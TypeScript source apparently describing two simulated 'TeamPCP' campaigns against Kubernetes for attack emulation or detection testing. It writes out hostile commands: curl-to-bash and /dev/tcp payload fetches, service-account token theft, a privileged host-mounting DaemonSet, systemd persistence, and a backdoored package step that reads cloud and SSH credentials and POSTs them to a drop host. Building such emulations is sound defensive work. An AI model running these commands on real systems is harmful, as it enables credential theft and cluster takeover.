import { list, rules } from './calls.ts'
import { api, type Campaign, deploy, run, token } from './campaign.ts'
import { mine } from './miner.ts'

const PYTHON = 'python-requests/2.32.3'

export const TEAMPCP: Campaign = {
  id: 'teampcp',
  title: 'TeamPCP: a script that finds itself in Kubernetes and deploys to all',
  source: 'Unit 42, 2026',
  victim: 'php',
  evasions: ['plain-names', 'no-downloader'],
  unseen: [],
  rows: (attack) => {
    const { server, namespace, evades } = attack
    const web = [[server, 80]] as const
    const name = evades('plain-names') ? `cache-${attack.random.fork('n').suffix(4)}` : `node-setup${attack.nth}`
    const line = `curl -s http://${server}/kube.py | python3`
    return [
      [
        '0:00',
        1,
        evades('no-downloader')
          ? run('server', `/bin/bash -c 'exec 3<>/dev/tcp/${server}/80; cat <&3 | bash'`, { as: 'sh', to: web })
          : run('server', `/bin/sh -c 'curl -s http://${server}/proxy.sh | bash'`, { as: 'sh' })
      ],
      ...(evades('no-downloader')
        ? []
        : ([['0:01', 1, run('sh', `/usr/bin/curl -s http://${server}/proxy.sh`, { to: web })]] as const)),
      ['0:10', 1, run('sh', '/bin/cat /run/secrets/kubernetes.io/serviceaccount/token', { reads: ['token'] })],
      [
        '0:20',
        2,
        run('sh', '/usr/bin/python3 /tmp/kube.py', { as: 'kube', reads: ['token'], to: [['10.96.0.1', 443]] })
      ],
      [
        '0:24',
        2,
        api(token(PYTHON), rules(namespace), list('pods'), list('secrets'), list('namespaces'), list('nodes'))
      ],
      [
        '1:10',
        3,
        deploy(token(PYTHON), 'ds', {
          kind: 'DaemonSet',
          namespace: 'kube-system',
          name,
          pods: 4,
          template: {
            labels: { app: name },
            serviceAccount: 'default',
            hostPID: true,
            hostPaths: ['/'],
            containers: [
              {
                name: 'setup',
                image: 'docker.io/alpine:latest',
                securityContext: { privileged: true },
                command: ['/bin/sh', '-c', line],
                process: { binary: '/bin/sh', args: ['-c', line] }
              }
            ]
          }
        })
      ],
      ['1:20', 3, run('ds', `/usr/bin/curl -s http://${server}/kube.py`, { to: web })],
      [
        '1:30',
        3,
        run('ds', '/usr/bin/tee /host/etc/systemd/system/sysmon.service', {
          writes: ['/host/etc/systemd/system/sysmon.service']
        })
      ],
      ...mine(attack, '1:50', 4, 'ds')
    ]
  }
}

export const LITELLM: Campaign = {
  id: 'teampcp-litellm',
  title: 'TeamPCP: backdoored LiteLLM package that spreads to all nodes',
  source: 'Unit 42, 2026',
  victim: 'python',
  evasions: [],
  unseen: [],
  rows: (attack) => {
    const { drop, namespace } = attack
    return [
      [
        '0:00',
        1,
        run('server', '/usr/local/bin/python3.12 -m pip install litellm==1.82.8', {
          as: 'pip',
          to: [['151.101.0.223', 443]]
        })
      ],
      ['0:10', 1, run('pip', "/bin/sh -c 'echo cHJpbnQoMSk= | base64 -d | python3'", { as: 'setup' })],
      [
        '0:20',
        2,
        run('setup', '/usr/local/bin/python3.12 /tmp/.p.py', {
          as: 'payload',
          reads: [
            'token',
            '/root/.aws/credentials',
            '/root/.ssh/id_rsa',
            '/root/.kube/config',
            '/root/.docker/config.json'
          ]
        })
      ],
      [
        '0:40',
        2,
        run('payload', `/usr/bin/curl -s -X POST --data-binary @/tmp/t.tgz https://${drop}/u`, { to: [[drop, 443]] })
      ],
      ['1:00', 3, api(token(PYTHON), list('secrets'), list('namespaces'), list('nodes'), list('pods'))],
      [
        '1:40',
        4,
        deploy(token(PYTHON), 'pods', {
          kind: 'DaemonSet',
          namespace: 'kube-system',
          name: `node-setup-${attack.random.fork('n').suffix(5)}`,
          pods: 4,
          template: {
            labels: { app: 'node-setup' },
            serviceAccount: 'default',
            hostPID: true,
            hostPaths: ['/'],
            containers: [
              {
                name: 'setup',
                image: 'docker.io/alpine:latest',
                securityContext: { privileged: true },
                process: { binary: '/bin/sh', args: ['-c', 'chroot /host sh'] }
              }
            ]
          }
        })
      ],
      ['2:00', 5, run('pods', '/usr/sbin/chroot /host /bin/sh', { as: 'root' })],
      [
        '2:06',
        5,
        run('root', '/usr/bin/tee /host/etc/systemd/system/sysmon.service', {
          writes: ['/host/etc/systemd/system/sysmon.service', '/host/root/.ssh/authorized_keys']
        })
      ],
      ['2:30', 5, api(token(PYTHON), list('secrets', namespace))]
    ]
  }
}
